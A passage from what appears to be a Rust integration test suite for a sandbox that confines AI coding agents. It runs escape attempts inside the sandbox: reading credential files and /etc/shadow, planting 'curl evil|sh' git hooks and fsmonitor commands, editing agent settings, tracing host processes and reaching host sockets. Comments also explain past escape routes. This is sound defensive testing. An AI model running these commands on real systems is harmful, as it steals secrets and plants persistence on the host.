//! Integration tests for `warden run`: real sandboxed processes. Each "must fail" case runs
//! the attack inside the sandbox, asserts it failed, and checks the host was not touched;
//! each "must work" case asserts the everyday workflow still runs.

use super::common::text as out;
use super::common::Scratch;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

struct T(Scratch);

impl std::ops::Deref for T {
    type Target = Scratch;
    fn deref(&self) -> &Scratch {
        &self.0
    }
}

impl T {
    /// A scratch tree: `home` (a fake $HOME with fake credentials) and `home/proj` (the workspace).
    fn new(name: &str) -> T {
        T(Scratch::nested("warden-it", name))
    }

    fn write(&self, rel: &str, text: &str) -> PathBuf {
        let p = self.home.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
        p
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = self.warden();
        c.arg("run").args(args);
        c.current_dir(&self.ws).stdin(Stdio::null());
        c
    }

    /// `warden run -- bash -c script`, started and held: the agent has run (`started` in the
    /// workspace) and waits for [`T::release`] before the script, so the host can change
    /// things while the session runs.
    fn start_held(&self, script: &str) -> std::process::Child {
        self.start_held_with(&[], script)
    }

    /// [`T::start_held`] with `warden run` arguments.
    fn start_held_with(&self, args: &[&str], script: &str) -> std::process::Child {
        let held = format!("touch started; while [ ! -e go ]; do sleep 0.05; done\n{script}");
        let mut c = self.cmd(args);
        c.args(["--", "/bin/bash", "-c", &held]);
        c.stdout(Stdio::piped()).stderr(Stdio::piped());
        let child = c.spawn().unwrap();
        assert!(
            super::common::wait_until(std::time::Duration::from_secs(20), || {
                self.ws.join("started").exists()
            }),
            "the agent never started"
        );
        child
    }

    /// Lets a [`T::start_held`] session run its script, and its output.
    fn release(&self, child: std::process::Child) -> Output {
        std::fs::write(self.ws.join("go"), "").unwrap();
        child.wait_with_output().unwrap()
    }

    /// `warden run [args] -- bash -c script`
    fn sh_with(&self, args: &[&str], script: &str) -> Output {
        let mut c = self.cmd(args);
        c.args(["--", "/bin/bash", "-c", script]);
        c.output().expect("spawn warden")
    }

    fn sh(&self, script: &str) -> Output {
        self.sh_with(&[], script)
    }

    fn policy(&self, text: &str) -> String {
        let p = self.root.join("policy.toml");
        std::fs::write(&p, text).unwrap();
        p.display().to_string()
    }
}

fn ok(o: &Output) -> String {
    assert!(o.status.success(), "expected success:\n{}", out(o));
    String::from_utf8_lossy(&o.stdout).into_owned()
}

#[test]
fn credentials_and_other_projects_are_unreadable() {
    let t = T::new("creds");
    let secrets = [
        ".ssh/id_ed25519",
        ".aws/credentials",
        ".config/gcloud/credentials.db",
        ".kube/config",
        ".docker/config.json",
        ".netrc",
        ".git-credentials",
        ".config/gh/hosts.yml",
        ".gnupg/private-keys-v1.d/k.key",
        ".password-store/bank.gpg",
        ".mozilla/firefox/p/logins.json",
        ".config/google-chrome/Default/Login Data",
        "other-project/.env",
        "other-project/src/main.rs",
        // Inside read roots of the default profile (attack review 100 F1).
        ".config/git/credentials",
        ".npm-global/etc/npmrc",
    ];
    // The read roots themselves stay readable.
    t.write(".config/git/ignore", "*.swp\n");
    for s in secrets {
        t.write(s, "TOPSECRET\n");
    }
    t.write("proj/readme.txt", "hello\n");
    let mut script = String::from(
        "cat readme.txt; grep -q swp \"$HOME/.config/git/ignore\" && echo GITIGNORE-OK; ",
    );
    for s in secrets {
        script.push_str(&format!(
            "cat \"$HOME/{s}\" 2>/dev/null | grep -q TOPSECRET && echo \"LEAK {s}\"; "
        ));
    }
    script.push_str(
        "ls -a \"$HOME\"; grep -r TOPSECRET / --include='*' -s -l 2>/dev/null | head -5; true",
    );
    let o = t.sh(&script);
    let stdout = ok(&o);
    assert!(
        stdout.starts_with("hello"),
        "workspace must stay readable:\n{}",
        out(&o)
    );
    assert!(
        stdout.contains("GITIGNORE-OK"),
        "a read root must stay readable:\n{}",
        out(&o)
    );
    assert!(
        !stdout.contains("LEAK"),
        "a credential leaked:\n{}",
        out(&o)
    );
    assert!(
        !stdout.contains("TOPSECRET"),
        "secret content leaked:\n{}",
        out(&o)
    );
    assert!(
        !stdout.contains(".ssh") && !stdout.contains("other-project"),
        "home listing shows hidden entries:\n{}",
        out(&o)
    );
}

/// The agent starts with the SIGPIPE disposition warden was started with, not warden's own
/// (ignored): `yes | head -1` ends quietly, as in the user's shell; a parent that ignores
/// SIGPIPE keeps it ignored for the agent.
#[test]
fn the_agent_inherits_the_callers_sigpipe_disposition() {
    let t = T::new("sigpipe");
    let script = "yes | head -1; grep SigIgn /proc/self/status";
    let o = t.sh(script);
    let s = ok(&o);
    assert!(s.starts_with("y\n"), "{}", out(&o));
    assert!(
        !String::from_utf8_lossy(&o.stderr).contains("Broken pipe"),
        "{}",
        out(&o)
    );
    let ign = |s: &str| {
        let hex = s
            .lines()
            .find_map(|l| l.strip_prefix("SigIgn:"))
            .unwrap()
            .trim()
            .to_string();
        u64::from_str_radix(&hex, 16).unwrap() & (1 << (libc::SIGPIPE - 1)) != 0
    };
    assert!(!ign(&s), "{}", out(&o));
    let mut c = t.cmd(&[]);
    c.args(["--", "/bin/bash", "-c", script]);
    use std::os::unix::process::CommandExt;
    // SAFETY: only async-signal-safe signal(2) between fork and exec.
    unsafe {
        c.pre_exec(|| {
            libc::signal(libc::SIGPIPE, libc::SIG_IGN);
            Ok(())
        });
    }
    let o = c.output().unwrap();
    assert!(ign(&ok(&o)), "{}", out(&o));
}

#[test]
fn system_secret_files_are_hidden() {
    let t = T::new("shadow");
    let o = t.sh("cat /etc/shadow | grep -c root || echo nothing; head -1 /etc/passwd");
    let s = ok(&o);
    assert!(s.contains("nothing") || s.starts_with('0'), "{}", out(&o));
    assert!(
        s.contains("root:x:0:0"),
        "/etc/passwd must stay readable:\n{}",
        out(&o)
    );
}

#[test]
fn writes_outside_the_workspace_never_reach_the_host() {
    let t = T::new("writes");
    let rc = t.write(".bashrc", "# original\n");
    let sibling = t.home.join("other-project");
    std::fs::create_dir_all(&sibling).unwrap();
    let targets = [
        "$HOME/.bashrc",
        "$HOME/.profile",
        "$HOME/.config/autostart/evil.desktop",
        "$HOME/other-project/x",
        "/etc/warden-evil",
        "/usr/local/bin/warden-evil",
        "/var/spool/cron/crontabs/root",
        "/root/.bashrc-warden-evil",
        "/var/tmp/warden-evil",
    ];
    let mut script = String::new();
    for p in targets {
        script.push_str(&format!(
            "mkdir -p \"$(dirname {p})\" 2>/dev/null; echo evil >> {p} 2>/dev/null; "
        ));
    }
    script.push_str("echo inside > in-ws.txt; true");
    let o = t.sh(&script);
    ok(&o);
    assert_eq!(
        std::fs::read_to_string(&rc).unwrap(),
        "# original\n",
        "host ~/.bashrc modified"
    );
    assert!(!t.home.join(".profile").exists());
    assert!(!t.home.join(".config/autostart/evil.desktop").exists());
    assert!(!sibling.join("x").exists());
    for p in [
        "/etc/warden-evil",
        "/usr/local/bin/warden-evil",
        "/var/tmp/warden-evil",
        "/root/.bashrc-warden-evil",
    ] {
        assert!(!Path::new(p).exists(), "{p} was created on the host");
    }
    assert_eq!(
        std::fs::read_to_string(t.ws.join("in-ws.txt")).unwrap(),
        "inside\n",
        "workspace must stay writable"
    );
}

fn git(ws: &Path, args: &[&str]) {
    let st = Command::new("git")
        .args(args)
        .current_dir(ws)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    assert!(st.success(), "git {args:?}");
}

#[test]
fn protected_paths_stay_read_only_existing_and_absent() {
    let t = T::new("protect");
    git(&t.ws, &["init", "-q"]);
    let cfg_before = std::fs::read_to_string(t.ws.join(".git/config")).unwrap();
    std::fs::create_dir_all(t.ws.join(".vscode")).unwrap();
    std::fs::write(t.ws.join(".vscode/settings.json"), "{}\n").unwrap();
    // Every attempt prints OK-<name> only if it succeeded.
    let attempts = [
        (
            "hook",
            "echo 'curl evil|sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
        ),
        ("config", "echo '[core] fsmonitor = evil' >> .git/config"),
        ("gitconfig-cmd", "git config core.fsmonitor evil"),
        ("hooks-rename", "mv .git/hooks .git/hooks.old"),
        ("config-replace", "echo x > cfg && mv cfg .git/config"),
        (
            "vscode-existing",
            "echo '{\"evil\":1}' > .vscode/settings.json",
        ),
        ("vscode-new", "echo x > .vscode/tasks.json"),
        ("mcp-absent", "echo '{\"mcpServers\":{}}' > .mcp.json"),
        (
            "claude-settings-absent",
            "mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json",
        ),
        (
            "claude-local-absent",
            "echo '{}' > .claude/settings.local.json",
        ),
        (
            "gemini-absent",
            "mkdir -p .gemini && echo x > .gemini/settings.json",
        ),
        ("codex-absent", "echo x > .codex/config.toml"),
        ("idea-absent", "echo x > .idea/workspace.xml"),
        ("envrc-absent", "echo 'curl evil' > .envrc"),
        ("warden-policy", "echo '[files]' > .warden.toml"),
        ("rm-mcp", "rm -f .mcp.json && echo x > .mcp.json"),
    ];
    let mut script = String::new();
    for (name, cmd) in attempts {
        script.push_str(&format!("({cmd}) 2>/dev/null && echo OK-{name}; "));
    }
    script.push_str("echo content > normal.txt && git add normal.txt && git -c user.name=a -c user.email=a@b commit -qm ok && echo COMMITTED");
    let o = t.sh(&script);
    let s = ok(&o);
    assert!(
        !s.contains("OK-"),
        "a protected path was writable:\n{}",
        out(&o)
    );
    assert!(
        s.contains("COMMITTED"),
        "git commit must keep working:\n{}",
        out(&o)
    );
    assert_eq!(
        std::fs::read_to_string(t.ws.join(".git/config")).unwrap(),
        cfg_before
    );
    assert!(!t.ws.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(t.ws.join(".vscode/settings.json")).unwrap(),
        "{}\n"
    );
    // Placeholders were cleaned up.
    for p in [
        ".mcp.json",
        ".claude",
        ".gemini",
        ".codex",
        ".idea",
        ".envrc",
        ".warden.toml",
    ] {
        assert!(!t.ws.join(p).exists(), "placeholder {p} left behind");
    }
}

#[test]
fn git_init_inside_works_and_cannot_plant_hooks() {
    let t = T::new("gitinit");
    let script = "git init -q . && echo 'curl evil|sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
                  echo '[core] fsmonitor = evil' >> .git/config; sleep 0.3; \
                  echo '#!/bin/sh' > .git/hooks/post-checkout 2>/dev/null && echo OK-late-hook; \
                  git config core.fsmonitor evil 2>/dev/null && echo OK-late-config; \
                  echo hi > a && git add a && git -c user.name=a -c user.email=a@b commit -qm one && echo COMMITTED";
    let o = t.sh(script);
    let s = ok(&o);
    assert!(s.contains("COMMITTED"), "{}", out(&o));
    assert!(
        !s.contains("OK-late"),
        "hooks/config writable after git init:\n{}",
        out(&o)
    );
    let hooks: Vec<_> = std::fs::read_dir(t.ws.join(".git/hooks"))
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| !n.ends_with(".sample"))
        .collect();
    assert!(
        hooks.is_empty(),
        "planted hooks survived: {hooks:?}\n{}",
        out(&o)
    );
    let cfg = std::fs::read_to_string(t.ws.join(".git/config")).unwrap();
    assert!(
        !cfg.contains("fsmonitor"),
        "config kept a planted key:\n{cfg}"
    );
}

/// The workspace itself made into a git dir (`HEAD`, `objects` and `refs` at its top): git
/// takes it for one before it looks further up, so the host's git there would obey its
/// config and hooks. Attack review 95: a workspace that is a subdirectory of the user's
/// repository, made into a git dir; the host's `git status` ran its `core.fsmonitor`, `git
/// commit` its hook. Judged from the host after the session, with the host's git.
#[test]
fn the_workspace_itself_made_into_a_git_dir_is_guarded() {
    let t = T::new("wsgitdir");
    git(&t.ws, &["init", "-q"]);
    let app = t.ws.join("app");
    std::fs::create_dir_all(&app).unwrap();
    std::fs::write(app.join("main.py"), "x\n").unwrap();
    git(&t.ws, &["add", "-A"]);
    git(
        &t.ws,
        &[
            "-c",
            "user.name=a",
            "-c",
            "user.email=a@b",
            "commit",
            "-qm",
            "init",
        ],
    );
    let marker = t.root.join("PWNED");
    let script = format!(
        "mkdir -p objects refs/heads hooks && echo 'ref: refs/heads/main' > HEAD && \
         printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = \"touch {m}; false\"\\n' > config && \
         printf '#!/bin/sh\\ntouch {m}\\n' > hooks/pre-commit && chmod +x hooks/pre-commit && \
         echo y >> main.py && echo PLANTED",
        m = marker.display()
    );
    let o = t
        .cmd(&[])
        .current_dir(&app)
        .args(["--", "/bin/bash", "-c", &script])
        .output()
        .unwrap();
    assert!(ok(&o).contains("PLANTED"), "{}", out(&o));
    for args in [
        vec!["status"],
        vec![
            "-c",
            "user.name=a",
            "-c",
            "user.email=a@b",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "x",
        ],
    ] {
        let _ = Command::new("git")
            .args(&args)
            .current_dir(&app)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }
    assert!(
        !marker.exists(),
        "the host's git ran what the agent planted in the workspace made a git dir:\n{}",
        out(&o)
    );
    let cfg = std::fs::read_to_string(app.join("config")).unwrap();
    assert!(
        !cfg.contains("fsmonitor") && !cfg.contains("worktree"),
        "config kept a planted key:\n{cfg}"
    );
    // The agent's ordinary work stays, and the user's repository works.
    assert_eq!(
        std::fs::read_to_string(app.join("main.py")).unwrap(),
        "x\ny\n"
    );
    git(&t.ws, &["status"]);
}

#[test]
fn agent_settings_in_state_dir_are_read_only() {
    let t = T::new("claudestate");
    t.write(".claude/settings.json", "{\"permissions\":{}}\n");
    let o = t.sh_with(
        &["--profile", "claude"],
        "echo '{\"hooks\":{}}' > ~/.claude/settings.json 2>/dev/null && echo OK-edit; \
         echo '{}' > ~/.claude/settings.local.json 2>/dev/null && echo OK-local; \
         mkdir -p ~/.claude/projects && echo log > ~/.claude/projects/x.jsonl && echo STATE-OK",
    );
    let s = ok(&o);
    // ~/.claude/settings.json is a filtered copy (warden-agentstate): the write lands on the
    // copy, and a `hooks` change is held, never written to the host file (checked below).
    assert!(!s.contains("OK-local"), "{}", out(&o));
    assert!(
        s.contains("STATE-OK"),
        "the agent's state dir must stay writable:\n{}",
        out(&o)
    );
    assert_eq!(
        std::fs::read_to_string(t.home.join(".claude/settings.json")).unwrap(),
        "{\"permissions\":{}}\n"
    );
    assert!(t.home.join(".claude/projects/x.jsonl").exists());
    assert!(!t.home.join(".claude/settings.local.json").exists());
}

struct Victim(std::process::Child);
impl Drop for Victim {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn victim() -> Victim {
    Victim(
        Command::new("/bin/sleep")
            .arg("300")
            .env("VICTIM_SECRET", "hunter2")
            .stdin(Stdio::null())
            .spawn()
            .unwrap(),
    )
}

#[test]
fn outside_processes_cannot_be_signalled_traced_or_read() {
    let t = T::new("procs");
    let mut v = victim();
    let pid = v.0.id();
    let script = format!(
        "kill -TERM {pid} 2>/dev/null && echo OK-kill; kill -9 1 2>/dev/null; \
         cat /proc/{pid}/environ 2>/dev/null | tr '\\0' '\\n' | grep VICTIM && echo OK-environ; \
         ls /proc | grep -qx {pid} && echo OK-visible; \
         /usr/bin/python3 -c 'import ctypes,sys; l=ctypes.CDLL(None,use_errno=True); sys.exit(0 if l.ptrace(16,{pid},0,0)==0 else 1)' && echo OK-ptrace; \
         /usr/bin/python3 -c 'import ctypes,sys; l=ctypes.CDLL(None,use_errno=True); r=l.ptrace(0,0,0,0); print(\"ptrace-errno\",ctypes.get_errno())'; \
         echo ALIVE"
    );
    let o = t.sh(&script);
    let s = ok(&o);
    assert!(!s.contains("OK-"), "{}", out(&o));
    assert!(
        s.contains("ptrace-errno 1"),
        "ptrace must fail with EPERM:\n{}",
        out(&o)
    );
    assert!(
        s.contains("ALIVE"),
        "kill -9 1 must not end the sandbox:\n{}",
        out(&o)
    );
    assert!(
        v.0.try_wait().unwrap().is_none(),
        "the outside process was killed"
    );
}

#[test]
fn outside_abstract_socket_is_unreachable() {
    use std::os::linux::net::SocketAddrExt;
    let t = T::new("abstract");
    let name = format!("warden-test-{}", std::process::id());
    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let l = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
    l.set_nonblocking(true).unwrap();
    let script = format!(
        "/usr/bin/python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0{name}\"); print(\"OK-connected\")' 2>&1; \
         /usr/bin/python3 -c 'import socket; s=socket.socket(socket.AF_UNIX); s.bind(\"\\0inner-{name}\"); s.listen(); c=socket.socket(socket.AF_UNIX); c.connect(\"\\0inner-{name}\"); print(\"INNER-OK\")'"
    );
    let o = t.sh(&script);
    let s = ok(&o);
    assert!(!s.contains("OK-connected"), "{}", out(&o));
    assert!(
        s.contains("INNER-OK"),
        "abstract sockets inside the sandbox must work:\n{}",
        out(&o)
    );
    assert!(l.accept().is_err(), "the outside listener saw a connection");
}

/// Host paths a test made outside its scratch tree (sockets, directories in `/`), removed
/// in order when dropped.
struct Gone(Vec<PathBuf>);

impl Drop for Gone {
    fn drop(&mut self) {
        for p in &self.0 {
            let _ = std::fs::remove_file(p);
            let _ = std::fs::remove_dir(p);
        }
    }
}

/// Judged on the host: none of `listeners` saw a connection from the session that gave `o`.
fn no_connection_reached(listeners: &[(PathBuf, std::os::unix::net::UnixListener)], o: &Output) {
    for (p, l) in listeners {
        assert!(
            l.accept().is_err(),
            "the host's listener at {} saw a connection from inside:\n{}",
            p.display(),
            out(o)
        );
    }
}

/// Attack review 100 (F2): Landlock governs opens, not `connect(2)` to a path-named socket,
/// so a host socket in a directory no root shows (`/var/lib/...`, `/srv`, directly in `/`)
/// was reached from inside. The sandbox's own root now shows only the directories of `/`
/// that are or hold roots (those only holding roots empty but for them), and no socket
/// directly in `/`. Judged by the host's listeners, which must see nothing;
/// the workspace's own socket (a dev server's) still connects.
#[test]
fn host_sockets_outside_the_policys_roots_are_unreachable() {
    let t = T::new("hostsock");
    let id = std::process::id();
    let mut gone = Gone(Vec::new());
    let mut listeners = Vec::new();
    let mut places = Vec::new();
    for dir in ["/var/lib", "/srv", "/mnt", "/"] {
        let d = Path::new(dir).join(format!("warden-it-{id}"));
        let sock = if dir == "/" {
            PathBuf::from(format!("/warden-it-{id}.sock"))
        } else {
            if std::fs::create_dir_all(&d).is_err() {
                continue;
            }
            gone.0.push(d.clone());
            d.join("s.sock")
        };
        let _ = std::fs::remove_file(&sock);
        let Ok(l) = std::os::unix::net::UnixListener::bind(&sock) else {
            continue;
        };
        gone.0.insert(0, sock.clone());
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&sock, std::fs::Permissions::from_mode(0o666)).unwrap();
        l.set_nonblocking(true).unwrap();
        listeners.push((sock.clone(), l));
        places.push(sock);
    }
    assert!(
        !places.is_empty(),
        "no host directory could hold a test socket"
    );
    let ws_sock = t.ws.join("dev.sock");
    let ws_l = std::os::unix::net::UnixListener::bind(&ws_sock).unwrap();
    ws_l.set_nonblocking(true).unwrap();
    let list: Vec<String> = places
        .iter()
        .map(|p| format!("'{}'", p.display()))
        .collect();
    let script = format!(
        "/usr/bin/python3 - <<'PY'\n\
import socket\n\
for p in [{}]:\n    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(p); print('OK-connected', p)\n    except OSError as e:\n        print('refused', p, e.errno)\n\
s = socket.socket(socket.AF_UNIX); s.connect('dev.sock'); print('WS-CONNECTED')\n\
PY",
        list.join(", ")
    );
    let o = t.sh(&script);
    let s = ok(&o);
    assert!(!s.contains("OK-connected"), "{}", out(&o));
    assert!(
        s.contains("WS-CONNECTED"),
        "the workspace's socket must connect:\n{}",
        out(&o)
    );
    assert!(
        ws_l.accept().is_ok(),
        "the workspace's listener saw no connection"
    );
    no_connection_reached(&listeners, &o);
}

/// The sandbox has a root of its own (attack review 102): what the host adds to `/` while
/// the session runs (a directory holding a socket, a socket directly in `/`, as a service
/// recreates one) never appears in the view. Before, the view's `/` was the host's: a
/// directory made there later was visible whole, and a socket recreated in `/` lost its
/// cover. Judged by the host's listeners, made after the agent started, which must see
/// nothing; `/usr`, `/tmp` and the workspace still work.
#[test]
fn what_the_host_adds_to_root_during_the_session_stays_outside() {
    let t = T::new("lateroot");
    let id = std::process::id();
    let dir = PathBuf::from(format!("/warden-late-{id}"));
    let in_dir = dir.join("s.sock");
    let top = PathBuf::from(format!("/warden-late-{id}.sock"));
    let gone = Gone(vec![in_dir.clone(), top.clone(), dir.clone()]);
    let script = format!(
        "ls -d '{d}' >/dev/null 2>&1 && echo OK-dir-seen\n\
         /usr/bin/python3 - <<'PY'\n\
import socket\n\
for p in ['{a}', '{b}']:\n    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(p); print('OK-connected', p)\n    except OSError as e:\n        print('refused', p, e.errno)\n\
PY\n\
echo tmp > /tmp/x && cat /tmp/x && /usr/bin/env true && echo made > made",
        d = dir.display(),
        a = in_dir.display(),
        b = top.display()
    );
    let child = t.start_held(&script);
    // The host makes them now, while the session runs.
    std::fs::create_dir(&dir).unwrap();
    let mut listeners = Vec::new();
    for p in [&in_dir, &top] {
        let _ = std::fs::remove_file(p);
        let l = std::os::unix::net::UnixListener::bind(p).unwrap();
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o666)).unwrap();
        l.set_nonblocking(true).unwrap();
        listeners.push((p.clone(), l));
    }
    let o = t.release(child);
    let s = ok(&o);
    assert!(!s.contains("OK-"), "{}", out(&o));
    assert!(
        s.contains("refused") && s.contains("tmp"),
        "the probe did not run:\n{}",
        out(&o)
    );
    assert_eq!(
        std::fs::read_to_string(t.ws.join("made")).unwrap_or_default(),
        "made\n",
        "the workspace must stay writable"
    );
    no_connection_reached(&listeners, &o);
    drop(gone);
}

/// Attack review 103: a root bound directly under `/` (`/opt` here) was a read-write mount.
/// Landlock governs opens, not `chmod(2)` nor `utimensat(2)`, so an agent run by an ordinary
/// user opened the mode of that user's files under `/opt` to everyone and backdated them.
/// Judged on the host: mode and times unchanged, and a workspace under `/opt` (a writable
/// root below a read-only one) still written.
#[test]
fn host_files_under_system_roots_keep_their_mode_and_times() {
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let t = T::new("rosys");
    let opt = PathBuf::from(format!("/opt/warden-it-{}", std::process::id()));
    let (f, ws) = (opt.join("f"), opt.join("ws"));
    let _gone = Gone(vec![ws.join("made"), f.clone(), ws.clone(), opt.clone()]);
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(&f, "data\n").unwrap();
    std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::set_permissions(&opt, std::fs::Permissions::from_mode(0o755)).unwrap();
    let chown = Command::new("chown")
        .args(["-R", "65534:65534"])
        .arg(&opt)
        .status()
        .unwrap();
    assert!(chown.success());
    let before = std::fs::metadata(&f).unwrap().mtime();
    let script = format!(
        "chmod 666 '{f}'; touch -d 2001-01-01 '{f}'; chmod 777 '{o}'; echo made > made; cat '{f}'",
        f = f.display(),
        o = opt.display()
    );
    let o = t
        .warden_as_nobody()
        .current_dir(&ws)
        .args(["run", "--", "/bin/sh", "-c", &script])
        .output()
        .unwrap();
    let s = ok(&o);
    assert!(
        s.contains("data"),
        "the file must stay readable:\n{}",
        out(&o)
    );
    let m = std::fs::metadata(&f).unwrap();
    assert_eq!(m.mode() & 0o7777, 0o644, "mode changed:\n{}", out(&o));
    assert_eq!(m.mtime(), before, "times changed:\n{}", out(&o));
    let d = std::fs::metadata(&opt).unwrap();
    assert_eq!(
        d.mode() & 0o7777,
        0o755,
        "directory mode changed:\n{}",
        out(&o)
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("made")).unwrap_or_default(),
        "made\n",
        "the workspace under /opt must stay writable:\n{}",
        out(&o)
    );
}

/// A denied file inside a read-only root is hidden by a mount over it, and that mount lasts
/// only as long as the host keeps the file's inode: a host tool that rewrites the file by
/// rename (`passwd` on `/etc/shadow`, most editors, `git config`) detached it, and the agent
/// read the new content for the rest of the session. The Landlock rule of the root is now
/// split around the hidden names, so whatever the host puts there has no rule. Judged after
/// the host replaced a hidden file and a hidden file in a subdirectory by rename, and made a
/// denied file that was absent, while the agent ran (and with a hard link to a hidden file
/// made before); the root's other files stay readable.
#[test]
fn a_hidden_file_the_host_replaces_during_the_session_stays_hidden() {
    let t = T::new("hidrename");
    let opt = PathBuf::from(format!("/opt/warden-it-hid-{}", std::process::id()));
    let (secret, key, other, lib) = (
        opt.join("secret"),
        opt.join("sub/key"),
        opt.join("other"),
        opt.join("lib/x"),
    );
    let _gone = Gone(vec![
        secret.clone(),
        key.clone(),
        other.clone(),
        lib.clone(),
        opt.join("sub/kept"),
        opt.join("sub"),
        opt.join("lib"),
        opt.clone(),
    ]);
    for (f, text) in [
        (&secret, "OLD-SECRET-1\n"),
        (&key, "OLD-KEY-2\n"),
        (&other, "OTHER-READABLE\n"),
        (&lib, "LIB-READABLE\n"),
        (&opt.join("sub/kept"), "SUB-READABLE\n"),
    ] {
        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
        std::fs::write(f, text).unwrap();
    }
    // Attack review 106: a denied file that does not exist yet (the host makes it during the
    // session), and another name of a hidden file (a hard link made before).
    let (future, link) = (opt.join("future"), opt.join("hl"));
    std::fs::hard_link(&key, &link).unwrap();
    let _gone2 = Gone(vec![future.clone(), link.clone()]);
    let pol = t.policy(&format!(
        "[files]\nread = [\"{o}\"]\ndeny = [\"{s}\", \"{k}\", \"{f}\"]\n",
        o = opt.display(),
        s = secret.display(),
        k = key.display(),
        f = future.display()
    ));
    let script = format!(
        "cat '{o}/secret' '{o}/sub/key' '{o}/future' '{o}/hl' '{o}/other' '{o}/lib/x' \
         '{o}/sub/kept'; ls '{o}'",
        o = opt.display()
    );
    let child = t.start_held_with(&["--policy", &pol], &script);
    // The agent runs (its view and rules are in place); the host rewrites both by rename
    // (the new secret readable by anyone) and makes the denied file.
    for (f, text) in [(&secret, "NEW-SECRET-3\n"), (&key, "NEW-KEY-4\n")] {
        let tmp = f.with_extension("new");
        std::fs::write(&tmp, text).unwrap();
        std::fs::rename(&tmp, f).unwrap();
    }
    std::fs::write(&future, "FUTURE-5\n").unwrap();
    let o = t.release(child);
    let s = String::from_utf8_lossy(&o.stdout);
    for secret in ["SECRET-1", "KEY-2", "SECRET-3", "KEY-4", "FUTURE-5"] {
        assert!(!s.contains(secret), "{secret} readable:\n{}", out(&o));
    }
    for kept in ["OTHER-READABLE", "LIB-READABLE", "SUB-READABLE", "other"] {
        assert!(s.contains(kept), "{kept} must stay readable:\n{}", out(&o));
    }
    assert_eq!(
        std::fs::read_to_string(&secret).unwrap(),
        "NEW-SECRET-3\n",
        "the host's file is the host's"
    );
}

/// The same in a read-only root under the private `$HOME`, where the home's own Landlock
/// rule is above it and cannot be split: the directory holding the hidden name is shown as a
/// read-only tmpfs of its entries as the session started. Judged after the host replaced the
/// hidden file by rename and made an absent denied one while the agent ran; the other
/// entries are readable and stay read-only.
#[test]
fn a_hidden_file_in_a_home_root_the_host_replaces_stays_hidden() {
    let t = T::new("hidhome");
    let secret = t.write("tools/secret", "OLD-HOME-SECRET-1\n");
    let public = t.write("tools/pub", "HOME-PUB\n");
    t.write("tools/sub/p", "HOME-SUB\n");
    std::os::unix::fs::symlink("pub", t.home.join("tools/lnk")).unwrap();
    let pol = t
        .policy("[files]\nread = [\"~/tools\"]\ndeny = [\"~/tools/secret\", \"~/tools/future\"]\n");
    let script = "cat ~/tools/secret ~/tools/future ~/tools/pub ~/tools/sub/p ~/tools/lnk; \
        echo changed > ~/tools/pub; echo made > ~/tools/new; echo changed > ~/tools/sub/p; true";
    let child = t.start_held_with(&["--policy", &pol], script);
    let tmp = secret.with_extension("new");
    std::fs::write(&tmp, "NEW-HOME-SECRET-2\n").unwrap();
    std::fs::rename(&tmp, &secret).unwrap();
    std::fs::write(t.home.join("tools/future"), "HOME-FUTURE-3\n").unwrap();
    let o = t.release(child);
    let s = ok(&o);
    for secret in ["HOME-SECRET-1", "HOME-SECRET-2", "HOME-FUTURE-3"] {
        assert!(!s.contains(secret), "{secret} readable:\n{}", out(&o));
    }
    assert!(
        s.contains("HOME-PUB\nHOME-SUB\nHOME-PUB"),
        "the other entries must stay readable:\n{}",
        out(&o)
    );
    assert_eq!(std::fs::read_to_string(&public).unwrap(), "HOME-PUB\n");
    assert_eq!(
        std::fs::read_to_string(t.home.join("tools/sub/p")).unwrap(),
        "HOME-SUB\n"
    );
    assert!(!t.home.join("tools/new").exists());
}

/// Denied paths in the workspace (a writable root) stay hidden when the host replaces them
/// while the agent runs: a file rewritten by rename (an editor's save), a denied directory
/// absent at the start that the host then fills (`ssh-keygen`, `docker login`), an absent
/// denied file the host creates, and one whose directory the host removes and makes again.
/// Before, the first was read by rename, the others shown read-only. Judged from the host:
/// the agent's output holds none of the secrets, the host's files keep their content, and
/// the agent's own writes (in a directory the host made meanwhile too) land.
#[test]
fn denied_paths_in_the_workspace_stay_hidden_when_the_host_replaces_them() {
    let t = T::new("hidws");
    let ws = t.ws.clone();
    std::fs::write(ws.join("app.env"), "WS-SECRET-1\n").unwrap();
    std::fs::create_dir_all(ws.join("sub")).unwrap();
    std::fs::create_dir_all(ws.join("old")).unwrap();
    std::fs::write(ws.join("old/s.txt"), "WS-SECRET-2\n").unwrap();
    std::fs::create_dir_all(ws.join("way/in")).unwrap();
    std::fs::write(ws.join("way/in/s.key"), "WS-SECRET-0\n").unwrap();
    std::fs::create_dir_all(ws.join("w2/in")).unwrap();
    for d in ["m/p", "q/r", "n3"] {
        std::fs::create_dir_all(ws.join(d)).unwrap();
    }
    std::fs::write(ws.join("m/p/s.key"), "WS-SECRET-9\n").unwrap();
